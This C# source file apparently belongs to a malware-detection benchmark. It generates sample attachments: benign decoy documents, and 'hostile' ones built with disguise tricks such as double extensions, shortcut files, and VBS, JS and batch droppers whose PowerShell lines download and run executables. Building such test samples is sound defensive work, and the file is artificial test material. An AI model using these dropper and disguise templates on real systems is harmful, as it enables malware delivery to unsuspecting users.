using System.Buffers.Binary;
using System.Text;
using Platform.Benchmarks.Detection.Samples.Documents;
using Platform.Benchmarks.Runner;

namespace Platform.Benchmarks.Detection.Samples.Containers;

/// <summary>What is packed: programs, scripts and shortcuts by attackers; documents, pictures and sources by everybody else.</summary>
internal static class Payloads
{
    private static readonly string[] Topics = ["minutes", "議事録", "plan", "Angebot", "photo", "見積書", "report", "drawing", "資料", "Rechnung", "budget", "schedule"];

    /// <summary>Reasons of which one is there for each of <see cref="Hostile"/>.</summary>
    public static IReadOnlyList<string> Reasons { get; } = ["archive-with-executable", "executable-disguised", "double-extension", "right-to-left-name", "shortcut-attachment", "shortcut-command", "behaviour-installs", "behaviour-execute"];

    public static SampleFile Hostile(Random random) => random.Next(6) switch
    {
        0 => new SampleFile($"{random.DocumentName()}.{random.Pick(["exe", "scr", "com", "pif"])}", Program(random)),
        1 => new SampleFile($"{random.DocumentName()}.pdf{new string(' ', random.Next(0, 40))}.exe", Program(random)),
        2 => SampleFile.Text($"{random.DocumentName()}.js", Script(random)),
        3 => SampleFile.Text($"{random.DocumentName()}.vbs", $"Set {random.Word()} = CreateObject(\"WScript.Shell\")\r\nCreateObject(\"WScript.Shell\").Run \"powershell {random.Downloader().Replace("\"", "\"\"", StringComparison.Ordinal)}\", 0\r\n"),
        4 => Shortcut(random),
        _ => SampleFile.Text($"{random.DocumentName()}.{random.Pick(["bat", "cmd"])}", $"@echo off\r\nstart /min powershell {random.Downloader()}\r\n"),
    };

    public static SampleFile Shortcut(Random random) => new($"{random.DocumentName()}.lnk", new ShellLinkWriter { Path = @"C:\Windows\System32\cmd.exe", Arguments = $"/c start {random.Word()}.exe & powershell {random.Downloader()}", Icon = @"%SystemRoot%\System32\imageres.dll" }.ToArray(random));

    public static byte[] Program(Random random)
    {
        var program = random.Bytes(random.Next(3_000, 30_000));
        "MZ"u8.CopyTo(program);
        BinaryPrimitives.WriteInt32LittleEndian(program.AsSpan(0x3C), 0x80);
        "PE\0\0"u8.CopyTo(program.AsSpan(0x80));
        BinaryPrimitives.WriteUInt16LittleEndian(program.AsSpan(0x96), (ushort)(random.Chance(0.8) ? 0x0102 : 0x2102));
        return program;
    }

    public static IReadOnlyList<SampleFile> Honest(Random random) => [.. Enumerable.Range(0, random.Next(1, 5)).Select(index => Document(random, index))];

    public static SampleFile Document(Random random, int index)
    {
        var name = $"{random.Pick(Topics)}-{random.Next(1, 2026)}{(index > 0 ? $"-{index}" : "")}";
        return random.Next(6) switch
        {
            0 => new SampleFile($"{name}.jpg", (byte[])[0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, .. random.Bytes(random.Next(2_000, 20_000)), 0xFF, 0xD9]),
            1 => new SampleFile($"{name}.pdf", Encoding.Latin1.GetBytes($"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")),
            2 => new SampleFile($"{name}.docx", ZipOf.Files(SampleFile.Text("[Content_Types].xml", "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>"), SampleFile.Text("word/document.xml", $"<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>{random.Word()}</w:t></w:r></w:p></w:body></w:document>"))),
            3 => SampleFile.Text($"{name}.csv", $"date,amount\r\n2026-11-0{random.Next(1, 9)},{random.Next(1000)}\r\n2026-11-1{random.Next(1, 9)},{random.Next(1000)}\r\n"),
            4 => new SampleFile($"{name}.png", (byte[])[0x89, (byte)'P', (byte)'N', (byte)'G', 13, 10, 26, 10, .. random.Bytes(random.Next(2_000, 20_000))]),
            _ => SampleFile.Text($"{name}.txt", string.Join("\r\n", Enumerable.Range(0, 20).Select(_ => $"{random.Word()} {random.Word()} {random.Word()}"))),
        };
    }

    private static string Script(Random random)
    {
        string shell = random.Word(), parts = string.Join("' + '", "WScript.Shell".Chunk(random.Next(3, 6)).Select(part => new string(part)));
        return $"var {shell} = new ActiveXObject('{parts}');\r\n{shell}.Run('cmd /c {random.Word()} & powershell iwr {random.Address(".exe")} -OutFile %TEMP%\\\\{random.Word()}.exe', 0);\r\n";
    }
}
